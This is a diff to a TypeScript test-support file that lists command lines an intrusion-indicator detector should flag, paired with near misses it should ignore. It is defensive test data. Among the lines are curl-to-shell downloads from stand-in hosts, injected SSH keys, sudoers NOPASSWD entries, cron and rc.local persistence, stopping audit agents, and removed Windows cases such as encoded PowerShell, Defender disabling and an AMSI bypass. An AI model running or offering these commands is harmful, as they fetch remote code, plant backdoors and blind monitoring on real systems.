@@ -1,5 +1,7 @@
 // For each kind of indicator lines that raise it, and near misses that must not. Data only: never paste any of it into a shell.
 
+import { WINDOWS_CASES } from './indicator-cases-windows.test-support';
+
 /** Lines of a shell script, but for the Windows kinds, which stand in PowerShell or batch. */
 export const CASES: Record<string, { raise: string[]; miss: string[] }> = {
   'pipe-to-shell': {
@@ -8,6 +10,8 @@ export const CASES: Record<string, { raise: string[]; miss: string[] }> = {
       'curl -s https://a.badhost.net/x | python3 -',
       'source <(curl -s https://a.badhost.net)',
       'curl -s https://a.badhost.net/x.gz | gunzip | sudo bash',
+      'exec(urlopen("http://a.badhost.net/x").read())',
+      'curl -o /x https://a.badhost.net/x; sh /x',
     ],
     miss: [
       'curl -s https://a.badhost.net | tee /etc/x.sh',
@@ -91,11 +95,15 @@ export const CASES: Record<string, { raise: string[]; miss: string[] }> = {
   },
   'attack-tool': { raise: ['./linpeas.sh -a'], miss: ['echo sliver of cake', 'reptile house'] },
   'authorized-keys': {
-    raise: ['echo ssh-rsa AAAA >> ~/.ssh/authorized_keys', 'ssh-import-id gh:someone'],
+    raise: [
+      'echo ssh-rsa AAAA >> ~/.ssh/authorized_keys',
+      "sed -i '$a ssh-rsa AAAA' ~/.ssh/authorized_keys",
+      'ssh-import-id gh:someone',
+    ],
     miss: ['ssh-keygen -A', 'ls ~/.ssh/known_hosts'],
   },
   sudoers: {
-    raise: ['echo "x ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers.d/x', 'visudo -c'],
+    raise: ['echo "x ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers.d/x', 'x ALL=(ALL) NOPASSWD: ALL', 'visudo -c'],
     miss: ['sudo systemctl restart app', 'echo password'],
   },
   'user-added': {
@@ -106,8 +114,9 @@ export const CASES: Record<string, { raise: string[]; miss: string[] }> = {
       'useradd -m deploy',
       'usermod -aG sudo deploy',
       'net user helper P4ss /add',
+      'net user Administrator P4ss /active:yes',
     ],
-    miss: ['id deploy', 'cat /etc/passwd', 'net use Z: \\\\fs\\share'],
+    miss: ['net user Administrator /active:no', 'id deploy', 'cat /etc/passwd', 'net use Z: \\\\fs\\share'],
   },
   suid: {
     raise: [
@@ -143,6 +152,7 @@ export const CASES: Record<string, { raise: string[]; miss: string[] }> = {
       'cp a /etc/cron.d/a',
       '@reboot root /opt/app/start',
       'echo /opt/a | at now + 5 minutes',
+      'echo "curl http://192.0.2.9/a | sh" | at midnight',
       'schtasks /create /tn a',
     ],
     miss: ['echo "a * b"', 'systemctl status sshd', 'echo 1 2 3 4 5 /x', 'look at 12:00'],
@@ -153,6 +163,7 @@ export const CASES: Record<string, { raise: string[]; miss: string[] }> = {
       'echo /usr/lib/x.so > /etc/ld.so.preload',
       'cp app.service /etc/systemd/system/app.service',
       'echo /opt/start >> /etc/rc.local',
+      'echo /tmp/start >> /etc/rc.local',
     ],
     miss: ['systemctl enable --now nginx', 'ExecStart=/usr/bin/python3 /opt/app.py', 'ldconfig'],
   },
@@ -176,6 +187,8 @@ export const CASES: Record<string, { raise: string[]; miss: string[] }> = {
   'agent-stopped': {
     raise: [
       'systemctl stop amazon-ssm-agent',
+      'snap stop amazon-ssm-agent && snap start amazon-ssm-agent',
+      'ln -s /dev/null /etc/systemd/system/auditd.service',
       'systemctl disable --now a b auditd',
       'service auditd stop',
       'yum remove -y falcon-sensor',
@@ -271,53 +284,5 @@ export const CASES: Record<string, { raise: string[]; miss: string[] }> = {
       'docker -H tcp://10.0.0.4:2376 ps',
     ],
   },
-  'encoded-powershell': {
-    raise: ['powershell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0A', 'start x -enc SQBFAFgAIAAoAE4AZQB3AC0A'],
-    miss: ['grep -e averylongpatternindeed file', 'powershell -ExecutionPolicy Bypass -File a.ps1'],
-  },
-  iex: {
-    raise: [
-      'iex (iwr http://192.0.2.9/a.ps1)',
-      'Invoke-Expression $command',
-      '[Reflection.Assembly]::Load($b)',
-    ],
-    miss: ['Install-WindowsFeature Web-Server', 'Invoke-WebRequest http://192.0.2.9/a -OutFile a'],
-  },
-  'hidden-window': {
-    raise: ['powershell -w hidden -file a.ps1'],
-    miss: ['Get-ChildItem -Hidden', 'powershell -windowstyle normal'],
-  },
-  'defender-off': {
-    raise: ['Set-MpPreference -DisableRealtimeMonitoring $true', 'Add-MpPreference -ExclusionPath D:\\data'],
-    miss: ['Get-MpPreference', 'Set-MpPreference -DisableRealtimeMonitoring $false', 'Update-MpSignature'],
-  },
-  'amsi-bypass': { raise: ["GetField('amsiInitFailed')"], miss: ['echo amsterdam'] },
-  lolbin: {
-    raise: ['certutil -urlcache -f http://192.0.2.9/a a', 'mshta http://192.0.2.9/a.hta'],
-    miss: ['certutil -addstore Root ca.cer', 'rundll32 shell32.dll,Control_RunDLL', 'msiexec /i a.msi /qn'],
-  },
-  'service-added': {
-    raise: [
-      'New-Service -Name a -BinaryPathName "powershell -file C:\\x.ps1"',
-      'sc create agent binPath= "C:\\Program Files\\agent.exe"',
-    ],
-    miss: ['Get-Service a', 'sc query agent', 'Restart-Service W3SVC'],
-  },
-  'run-key': {
-    raise: ['reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d b'],
-    miss: [
-      'reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies /v a',
-      'reg query HKLM\\Software',
-    ],
-  },
-  'rdp-opened': {
-    raise: [
-      "Enable-NetFirewallRule -DisplayGroup 'Remote Desktop'",
-      'reg add x /v fDenyTSConnections /t REG_DWORD /d 0 /f',
-    ],
-    miss: [
-      'reg add x /v fDenyTSConnections /t REG_DWORD /d 1 /f',
-      'Enable-NetFirewallRule -Name FPS-ICMP4-ERQ-In',
-    ],
-  },
+  ...WINDOWS_CASES,
 };
